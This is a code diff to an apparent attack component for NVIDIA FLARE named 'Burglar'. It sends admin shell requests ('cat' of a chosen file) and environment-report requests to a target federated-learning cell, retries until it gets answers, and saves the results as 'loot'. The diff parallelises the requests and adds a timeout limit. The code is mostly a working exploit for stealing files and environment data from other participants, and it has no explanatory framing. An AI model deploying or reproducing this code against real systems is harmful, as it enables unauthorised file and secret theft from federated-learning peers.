@@ -10,6 +10,7 @@ import json
 import threading
 import time
 import zipfile
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 from nvflare.apis.event_type import EventType
@@ -30,11 +31,14 @@ WAIT = {
 
 
 class Burglar(FLComponent):
-    """Asks as soon as FLARE runs, again and again until there is an answer, and writes down what it got."""
+    """Asks as soon as FLARE runs, again and again until there is an answer, and writes down what it got.
 
-    def __init__(self, target: str, file: str, out: str) -> None:
+    With ``patience`` that is also that there was none, so many times.
+    """
+
+    def __init__(self, target: str, file: str, out: str, patience: int = 0) -> None:
         super().__init__()
-        self._target, self._out = target, Path(out)
+        self._target, self._out, self._patience = target, Path(out), patience
         self._questions = {
             "shell": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.SHELL, f"cat {file}")),
             "environment": (CellChannel.CLIENT_MAIN, "admin", Message(SysCommandTopic.REPORT_ENV, "")),
@@ -48,18 +52,27 @@ class Burglar(FLComponent):
             threading.Thread(target=self._try, args=(fl_ctx.get_engine(),), daemon=True).start()
 
     def _try(self, engine) -> None:
-        loot = {}
-        for name, question in self._questions.items():
-            while (answer := self._ask(engine, *question)) in WAIT:
-                time.sleep(0.5)
-            loot[name] = answer
+        with ThreadPoolExecutor() as together:
+            answers = together.map(
+                lambda question: self._ask_often(engine, *question), self._questions.values()
+            )
+            loot = dict(zip(self._questions, answers, strict=True))
         self._out.with_suffix(".part").write_text(json.dumps(loot))
         self._out.with_suffix(".part").rename(self._out)
+
+    def _ask_often(self, engine, *question) -> str:
+        silences = 0
+        while (answer := self._ask(engine, *question)) in WAIT:
+            silences += answer == ReturnCode.TIMEOUT
+            if silences == self._patience > 0:
+                return answer
+            time.sleep(0.5)
+        return answer
 
     def _ask(self, engine, channel, topic, payload) -> str:
         if (cell := engine.get_cell()) is None:
             return ReturnCode.TARGET_UNREACHABLE
-        reply = cell.core_cell.send_request(channel, topic, self._target, new_cell_message({}, payload), 5.0)
+        reply = cell.core_cell.send_request(channel, topic, self._target, new_cell_message({}, payload), 3.0)
         code = reply.get_header(MessageHeaderKey.RETURN_CODE)
         body = reply.payload.body if isinstance(reply.payload, Message) else reply.payload
         return str(body) if code in (None, ReturnCode.OK) else code
